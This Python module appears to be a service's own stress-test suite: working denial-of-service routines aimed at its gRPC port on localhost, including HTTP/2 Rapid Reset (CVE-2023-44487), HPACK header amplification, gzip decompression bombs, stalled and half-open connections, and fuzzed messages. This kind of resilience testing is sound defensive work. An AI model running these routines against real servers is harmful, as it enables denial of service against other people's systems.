"""Attacks on the gRPC port. Each runs until a time on the monotonic clock, and returns what it has sent in words."""

import gzip
import random
import socket
import struct
import time
from collections.abc import Callable, Iterator
from contextlib import ExitStack, closing, suppress
from typing import Any

import grpc
from grpc_health.v1 import health_pb2, health_pb2_grpc

from service.pb.convoy.v1 import classifier_pb2 as pb
from service.pb.inference import open_inference_pb2 as oip
from tests import refusals
from tests.attack.target import Target, discard
from tests.integration.http2 import DATA, END_HEADERS, END_STREAM, HEADERS, PREFACE, SETTINGS, Frame, literals

MIB = 2**20
IN_FLIGHT = 16
CALL_SECONDS = 5.0
RST_STREAM = 3
HALF_OPEN = 2000
WATCHES = 2000
STALLED = 40
METHODS = (refusals.CLASSIFY, refusals.CLASSIFY_STREAM, refusals.INFER, refusals.INFER_STREAM)
CHECK = "/grpc.health.v1.Health/Check"
LONG = [("grpc.max_send_message_length", -1), ("grpc.max_receive_message_length", -1), ("grpc.use_local_subchannel_pool", 1)]


def _send(
    target: Target,
    until: float,
    calls: Iterator[tuple[str, bytes]],
    in_flight: int = IN_FLIGHT,
    seconds: float = CALL_SECONDS,
    **options: Any,
) -> tuple[int, int]:
    """Sends unary calls of raw messages, so many at a time, with a deadline; returns their number and bytes."""
    sent = size = 0
    with grpc.insecure_channel(f"127.0.0.1:{target.grpc_port}", LONG) as channel:
        waiting: list[Any] = []
        for path, message in calls:
            if time.monotonic() >= until:
                break
            method: Any = channel.unary_unary(path)
            waiting.append(method.future(message, timeout=seconds, **options))
            sent, size = sent + 1, size + len(message)
            if len(waiting) == in_flight:
                waiting.pop(0).exception()
        for call in waiting:
            call.exception()
    return sent, size


def _repeat(*calls: tuple[str, bytes]) -> Iterator[tuple[str, bytes]]:
    while True:
        yield from calls


def _refused_messages() -> list[tuple[str, bytes]]:
    """Methods and messages that are refused at once: none that waits in the queue of a model that is patient."""
    kinds = {refusals.CLASSIFY: refusals.CLASSIFY_MESSAGES, refusals.INFER: refusals.INFER_MESSAGES}
    return [
        (path, message)
        for path, messages in kinds.items()
        for kind, (message, _) in messages.items()
        if "queue" not in kind and len(message) < MIB
    ]


def garbage(target: Target, until: float) -> str:
    """Random bytes, and valid messages with bytes changed, cut off or added, to every method that takes requests."""
    chance = random.Random(0)
    valid = [message for _, message in _refused_messages()]

    def messages() -> Iterator[tuple[str, bytes]]:
        while True:
            message = bytearray(chance.choice(valid)[:4096])
            for _ in range(chance.randrange(1, 8)):
                at = chance.randrange(len(message) + 1)
                message[at : at + chance.randrange(3)] = chance.randbytes(chance.randrange(4))
            yield chance.choice(METHODS), chance.randbytes(chance.randrange(200)) if chance.random() < 0.2 else bytes(message)

    sent, size = _send(target, until, messages())
    return f"{sent:,} messages, {size / MIB:.1f} MiB"


def empty_parts(target: Target, until: float) -> str:
    """Messages of 16 MiB that hold nothing but empty parts: millions of objects, if they are made."""
    item = bytes([pb.ClassifyRequest.DESCRIPTOR.fields_by_name["items"].number << 3 | 2, 0])
    fields = oip.ModelInferRequest.DESCRIPTOR.fields_by_name
    tensor, output = (bytes([fields[name].number << 3 | 2, 0]) for name in ("inputs", "outputs"))
    half = 8 * MIB
    calls = [(refusals.CLASSIFY, item * half), (refusals.INFER, tensor * half), (refusals.INFER, output * half)]
    sent, size = _send(target, until, _repeat(*calls), in_flight=8)
    return f"{sent} messages, {size / MIB:.0f} MiB"


def compressed(target: Target, until: float) -> str:
    """Messages of 15 MB of zeros, compressed to some kB."""
    message = pb.ClassifyRequest(model="digits", items=[pb.Item(pixels=bytes(15_000_000))]).SerializeToString()
    calls = _repeat((refusals.CLASSIFY, message))
    sent, size = _send(target, until, calls, in_flight=32, compression=grpc.Compression.Gzip)
    return f"{sent} messages, unfolded {size / MIB:.0f} MiB"


def cancelled_bombs(target: Target, until: float) -> str:
    """Messages of 60 MB of zeros, compressed to 58 kB, whose calls are over before they are unfolded."""
    bomb = gzip.compress(bytes(60_000_000))
    sent, size = _send(target, until, _repeat((refusals.CLASSIFY, bomb), (CHECK, bomb)), in_flight=64, seconds=0.3)
    return f"{sent} messages, {size / MIB:.1f} MiB"


def refused(target: Target, until: float) -> str:
    """Valid requests for too much: 600 items, where 512 are the most; unknown models; wrong shapes."""
    sent, size = _send(target, until, _repeat(*_refused_messages()))
    return f"{sent:,} requests, {size / MIB:.0f} MiB"


def cancelled(target: Target, until: float) -> str:
    """Calls and streams that are cancelled at once, or soon."""
    message = pb.ClassifyRequest(model="digits", items=[pb.Item(pixels=bytes(784))] * 8).SerializeToString()
    chance, sent = random.Random(0), 0
    with grpc.insecure_channel(f"127.0.0.1:{target.grpc_port}", LONG) as channel:
        classify: Any = channel.unary_unary(refusals.CLASSIFY)
        while time.monotonic() < until:
            calls = [classify.future(message, timeout=CALL_SECONDS) for _ in range(IN_FLIGHT)]
            time.sleep(chance.random() / 200)
            for call in calls:
                call.cancel()
            sent += len(calls)
    return f"{sent:,} calls"


def watches(target: Target, until: float) -> str:
    """Thousands of health watches that stay open."""
    with grpc.insecure_channel(f"127.0.0.1:{target.grpc_port}", LONG) as channel:
        health: Any = health_pb2_grpc.HealthStub(channel)
        opened: list[Any] = []
        while len(opened) < WATCHES and time.monotonic() < until:
            opened.append(health.Watch(health_pb2.HealthCheckRequest()))
        _wait(until)
        for watch in opened:
            watch.cancel()
    return f"{len(opened):,} watches"


class _Raw:
    """A connection that sends HTTP/2 frames and drops what comes back."""

    def __init__(self, port: int) -> None:
        self._socket = socket.create_connection(("127.0.0.1", port), timeout=5)
        self.sendall(PREFACE)
        self.send(Frame(SETTINGS, 0, 0, b""))

    def send(self, *frames: Frame) -> None:
        self.sendall(
            b"".join(
                struct.pack(">I", len(frame.payload))[1:] + struct.pack(">BBI", *frame[:3]) + frame.payload for frame in frames
            )
        )

    def sendall(self, data: bytes) -> None:
        self._socket.sendall(data)

    def discard(self) -> None:
        """Reads what is there. Raises OSError if the server has closed the connection."""
        discard(self._socket)

    def reset(self) -> None:
        """Closes the connection with a reset."""
        self._socket.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, struct.pack("ii", 1, 0))
        self._socket.close()

    def close(self) -> None:
        self._socket.close()


def _headers(path: str, *more: tuple[str, str]) -> bytes:
    return literals(
        [(":method", "POST"), (":scheme", "http"), (":path", path), (":authority", "x"), ("content-type", "application/grpc"),
         ("te", "trailers"), *more]
    )  # fmt: skip


def _on_connections(target: Target, until: float, attack: Callable[[_Raw, int], None]) -> int:
    """Repeats an attack with streams 1, 3, 5 ..., on a new connection whenever the server has closed the one before."""
    sent = 0
    while time.monotonic() < until:
        with suppress(OSError), closing(_Raw(target.grpc_port)) as connection:
            for stream in range(1, 2**30, 2):
                if time.monotonic() >= until:
                    break
                attack(connection, stream)
                sent += 1
                connection.discard()
    return sent


def rapid_reset(target: Target, until: float) -> str:
    """Calls that are reset as soon as they have begun (CVE-2023-44487)."""
    block = _headers(refusals.CLASSIFY)

    def attack(connection: _Raw, stream: int) -> None:
        connection.send(Frame(HEADERS, END_HEADERS, stream, block), Frame(RST_STREAM, 0, stream, struct.pack(">I", 8)))

    return f"{_on_connections(target, until, attack):,} calls"


def many_headers(target: Target, until: float) -> str:
    """Calls whose headers are thousands of references to one entry: a byte each on the wire."""
    entry = b"\x40\x01x\x01y"  # a literal that goes into the dynamic table, as its entry 62
    block = _headers(refusals.CLASSIFY) + entry + b"\xbe" * 450
    message = pb.ClassifyRequest(model="digits", items=[pb.Item(pixels=bytes(784))]).SerializeToString()
    framed = struct.pack(">BI", 0, len(message)) + message

    def attack(connection: _Raw, stream: int) -> None:
        connection.send(Frame(HEADERS, END_HEADERS, stream, block), Frame(DATA, END_STREAM, stream, framed))

    return f"{_on_connections(target, until, attack):,} calls of 451 entries"


def stalled(target: Target, until: float) -> str:
    """Calls whose message of 90 MB stops in the middle; each on a connection of its own."""
    block, sent = _headers(refusals.CLASSIFY), 0
    with ExitStack() as stack:
        connections = []
        for _ in range(STALLED):
            with suppress(OSError):
                connection = stack.enter_context(closing(_Raw(target.grpc_port)))
                connection.send(Frame(HEADERS, END_HEADERS, 1, block), Frame(DATA, 0, 1, struct.pack(">BI", 0, 90_000_000)))
                connections.append(connection)
        while time.monotonic() < until:
            for connection in list(connections):
                try:
                    # As far as flow control lets a connection go without updates of its window.
                    connection.send(Frame(DATA, 0, 1, bytes(1024)))
                    connection.discard()
                    sent += 1
                except OSError:
                    connections.remove(connection)
            time.sleep(0.05)
    return f"{STALLED} messages, {sent / 1024:.1f} MiB of them"


def stalled_in_clients(target: Target, until: float) -> str:
    """Large messages of real clients that stop reading and writing: as many bytes as the server takes before it answers."""
    message = pb.ClassifyRequest(model="digits", items=[pb.Item(pixels=bytes(40 * MIB))]).SerializeToString()
    sent, size = _send(target, until, _repeat((refusals.CLASSIFY, message)), in_flight=4)
    return f"{sent} messages, {size / MIB:.0f} MiB"


def half_open(target: Target, until: float) -> str:
    """Connections that send a part of the preface, or nothing."""
    with ExitStack() as stack:
        opened = 0
        while opened < HALF_OPEN and time.monotonic() < until:
            with suppress(OSError):
                connection = stack.enter_context(socket.create_connection(("127.0.0.1", target.grpc_port), timeout=5))
                connection.sendall(PREFACE[: opened % 12])
                opened += 1
        _wait(until)
    return f"{opened:,} connections"


def broken_off(target: Target, until: float) -> str:
    """Connections that are reset in the middle of a message."""
    block = _headers(refusals.CLASSIFY)
    broken = 0
    while time.monotonic() < until:
        with suppress(OSError):
            connection = _Raw(target.grpc_port)
            connection.send(Frame(HEADERS, END_HEADERS, 1, block), Frame(DATA, 0, 1, struct.pack(">BI", 0, 5000) + bytes(2000)))
            connection.reset()
            broken += 1
    return f"{broken:,} connections"


def _wait(until: float) -> None:
    time.sleep(max(0.0, until - time.monotonic()))
